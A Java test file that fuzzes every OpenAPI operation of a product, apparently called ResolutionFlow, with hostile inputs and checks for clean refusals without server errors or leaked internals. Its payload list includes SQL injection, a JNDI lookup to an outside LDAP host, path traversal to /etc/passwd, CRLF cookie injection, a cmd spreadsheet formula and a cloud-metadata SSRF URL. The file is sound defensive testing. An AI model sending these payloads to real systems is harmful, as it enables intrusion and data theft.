package com.resolutionflow.openapi;

import static org.assertj.core.api.Assertions.assertThat;

import com.resolutionflow.account.people.Role;
import com.resolutionflow.openapi.ApiDescription.Parameter;
import com.resolutionflow.support.ApiClient;
import com.resolutionflow.support.ApiClient.Answer;
import com.resolutionflow.support.ProductTest;
import com.resolutionflow.support.Technician;
import com.resolutionflow.support.TestAccounts;
import com.resolutionflow.support.TestAccounts.Team;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/**
 * Asks every operation of the OpenAPI document with hostile words in every text of its body, every
 * query parameter and every id of its path: it is refused or taken as text, and is never our
 * failure. A new operation is asked as soon as it is in the document.
 */
@ProductTest
class HostileRequestTest {

  private static final List<String> WORDS =
      List.of(
          "' or 1=1; drop table handoff; --",
          "\"}],\"role\":\"owner\"}",
          "<script>taken()</script>",
          "${jndi:ldap://203.0.113.9/a} #{7*7} %{7*7} {{7*7}}",
          "../../../../../../etc/passwd",
          "a\r\nSet-Cookie: taken=1\r\n\r\nb",
          "\u0000",
          "=cmd|' /C calc'!A0",
          "\u202Efdp.exe",
          "%s%n%00",
          "http://169.254.169.254/latest/meta-data/",
          "x".repeat(20_000));

  /** Those that mean something to an address. */
  private static final List<String> IN_ADDRESSES =
      List.of(WORDS.get(0), WORDS.get(4), WORDS.get(5), WORDS.get(6), WORDS.getLast());

  @Autowired ApplicationContext application;

  @Test
  void no_word_makes_it_our_failure_in_any_place_of_any_operation() {
    Team team = new TestAccounts(application).team();
    ApiDescription document =
        ApiDescription.read(
            Technician.of(team, Role.OWNER)
                .browser()
                .get("/api/v1/openapi.json")
                .expect(200)
                .body());
    int asked = 0;
    for (Operation operation : Operation.of(document)) {
      if (!operation.path().endsWith("/stream")) {
        // A new person each: one alone would soon have made too many requests.
        ApiClient browser = Technician.of(team, Role.OWNER).browser();
        asked += askInBodies(operation, browser);
        asked += askInQueries(operation, document.endpoint(operation).parameters(), browser);
        asked += askInPaths(operation, browser);
      }
    }
    assertThat(asked).isGreaterThan(500);
  }

  private static int askInBodies(Operation operation, ApiClient browser) {
    for (String field : operation.textFields()) {
      for (String word : WORDS) {
        Map<String, Object> body = new HashMap<>();
        ((Map<?, ?>) operation.body()).forEach((name, value) -> body.put((String) name, value));
        body.put(field, word);
        ask(operation, operation.at(ids(operation)), body, browser, field + " = " + word);
      }
    }
    return operation.textFields().size() * WORDS.size();
  }

  private static int askInQueries(
      Operation operation, List<Parameter> parameters, ApiClient browser) {
    List<Parameter> queries =
        parameters.stream().filter(parameter -> parameter.in().equals("query")).toList();
    for (Parameter query : queries) {
      for (String word : IN_ADDRESSES) {
        String path = operation.at(ids(operation)) + "?" + query.name() + "=" + encoded(word);
        ask(operation, path, operation.body(), browser, query.name() + " = " + word);
      }
    }
    return queries.size() * IN_ADDRESSES.size();
  }

  private static int askInPaths(Operation operation, ApiClient browser) {
    for (String parameter : operation.pathParameters()) {
      for (String word : IN_ADDRESSES) {
        Map<String, String> ids = ids(operation);
        ids.put(parameter, encoded(word));
        ask(operation, operation.at(ids), operation.body(), browser, parameter + " = " + word);
      }
    }
    return operation.pathParameters().size() * IN_ADDRESSES.size();
  }

  /** The first 1,000 characters: the server refuses longer addresses before it reads them. */
  private static String encoded(String word) {
    String most = word.substring(0, Math.min(1_000, word.length()));
    return URLEncoder.encode(most, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static Map<String, String> ids(Operation operation) {
    Map<String, String> ids = new HashMap<>();
    operation.pathParameters().forEach(name -> ids.put(name, UUID.randomUUID().toString()));
    return ids;
  }

  private static void ask(
      Operation operation, String path, Object body, ApiClient browser, String what) {
    Answer answer = browser.send(operation.method(), path, body, Map.of());
    String place = operation + ": " + what.substring(0, Math.min(100, what.length()));
    assertThat(answer.status()).as(place + " " + answer.body()).isLessThan(500);
    assertThat(answer.response().headers().allValues("Set-Cookie"))
        .as(place)
        .noneMatch(cookie -> cookie.contains("taken"));
    if (answer.status() >= 400) {
      assertThat(answer.body())
          .as(place)
          .contains("\"code\":")
          .doesNotContain("Exception", "org.postgresql", "PSQL", "java.lang");
    }
  }
}
